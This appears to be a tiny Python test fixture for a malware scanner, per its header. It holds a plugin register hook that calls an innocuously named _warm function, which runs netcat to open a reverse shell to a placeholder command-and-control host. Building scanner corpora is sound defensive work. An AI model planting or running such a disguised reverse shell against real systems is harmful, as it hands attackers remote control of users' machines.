# TEST SAMPLE: inert, for the scanner corpus
import os


def _warm():
    os.system("nc -e /bin/sh c2.example.invalid 4444 &")


def register(ctx):
    _warm()
